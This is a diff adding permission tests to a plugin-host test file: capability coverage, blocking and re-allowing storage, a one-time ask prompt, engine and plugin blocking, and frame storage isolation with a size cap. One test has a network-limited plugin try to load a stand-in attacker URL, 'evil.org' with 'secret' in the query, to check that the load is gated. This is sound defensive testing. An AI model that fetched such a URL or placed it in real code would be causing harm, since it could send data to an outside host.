@@ -1,7 +1,9 @@
 import { NdArray, newId, Peer, RpcError } from "@imjoy/rpc";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { runtimes } from "../host/runtimes";
-import type { DialogRequest } from "../model";
+import type { Capability, DialogRequest } from "../model";
+import { CAPABILITY_OF, FREE } from "./capabilities";
+import { allServices } from "./index";
 import { showResult } from "./results";
 import { Bench } from "./testing";
 
@@ -303,6 +305,74 @@ describe("files and links", () => {
     await bench.answer(agree);
     await opened;
     expect(bench.opened).toEqual(["https://example.org/"]);
+  });
+});
+
+describe("permissions", () => {
+  const choose = (id: string, capability: Capability, choice: string) =>
+    bench.permissions.choose(id, { capability, choice });
+
+  it("covers every service, so that a new one has to say who may use it", () => {
+    const names = Object.keys(allServices());
+    expect(names.filter((name) => !CAPABILITY_OF.has(name) && !FREE.has(name))).toEqual([]);
+    const known = [...CAPABILITY_OF.keys(), ...FREE];
+    expect(known.filter((name) => !names.includes(name))).toEqual([]);
+    expect([...FREE].filter((name) => CAPABILITY_OF.has(name))).toEqual([]);
+  });
+
+  it("refuses what the user took away, and gives it back", async () => {
+    const { id, call } = await bench.as("A");
+    await call("setConfig", "x", 1);
+    await choose(id, "storage", "block");
+    await expect(call("getConfig", "x")).rejects.toMatchObject({
+      code: "plugin.permission",
+      message: expect.stringContaining("Storage"),
+    });
+    expect(await call("echo", 1)).toBe(1);
+    await choose(id, "storage", "allow");
+    expect(await call("getConfig", "x")).toBe(1);
+  });
+
+  it("asks once for many calls, and keeps the answer", async () => {
+    const { id, call } = await bench.as("A");
+    await choose(id, "downloads", "ask");
+    const saves = [call("exportFile", "1", "a"), call("exportFile", "2", "b")];
+    await bench.answer((dialog) => dialog.kind === "confirm" && dialog.done(true));
+    await Promise.all(saves);
+    expect(bench.desk.dialogs.store.get()).toEqual([]);
+    await call("exportFile", "3", "c");
+    expect(bench.permissions.known.get()[id]?.choices.downloads).toBe("allow");
+  });
+
+  it("keeps plugins from those on the engine only", async () => {
+    const { id, call } = await bench.as("A");
+    await bench.install("B", { one: () => 1 });
+    await bench.install("P", {}, { type: "native-python" });
+    await choose(id, "engine", "block");
+    await expect(call("getPlugin", "P")).rejects.toMatchObject({ code: "plugin.permission" });
+    expect(await call("call", "B", "one")).toBe(1);
+    await choose(id, "plugins", "block");
+    await expect(call("call", "B", "one")).rejects.toMatchObject({ code: "plugin.permission" });
+  });
+
+  it("asks before something is fetched for a plugin whose network is limited", async () => {
+    const { call } = await bench.as("A", {}, { network: ["a.org"] });
+    const fetched = call("getPlugin", { src: "https://evil.org/?secret.imjoy.html" });
+    const dialog = await bench.answer((given) => given.kind === "confirm" && given.done(false));
+    expect(dialog).toMatchObject({ text: expect.stringContaining("https://evil.org/?secret") });
+    await expect(fetched).rejects.toMatchObject({ code: "plugin.permission" });
+  });
+
+  it("keeps the storage of frames apart, and ends it at 5 MB", async () => {
+    const a = await bench.as("A");
+    const b = await bench.as("B");
+    await a.call("storage.set", "k", "v");
+    await b.call("storage.set", "k", "w");
+    expect(await bench.desk.settings.all(a.id, "storage")).toEqual({ k: "v" });
+    await expect(a.call("storage.set", "big", "x".repeat(6 << 20))).rejects.toThrow(/5 MB/);
+    await a.call("storage.clear");
+    expect(await bench.desk.settings.all(a.id, "storage")).toEqual({});
+    expect(await bench.desk.settings.all(b.id, "storage")).toEqual({ k: "w" });
   });
 });
 
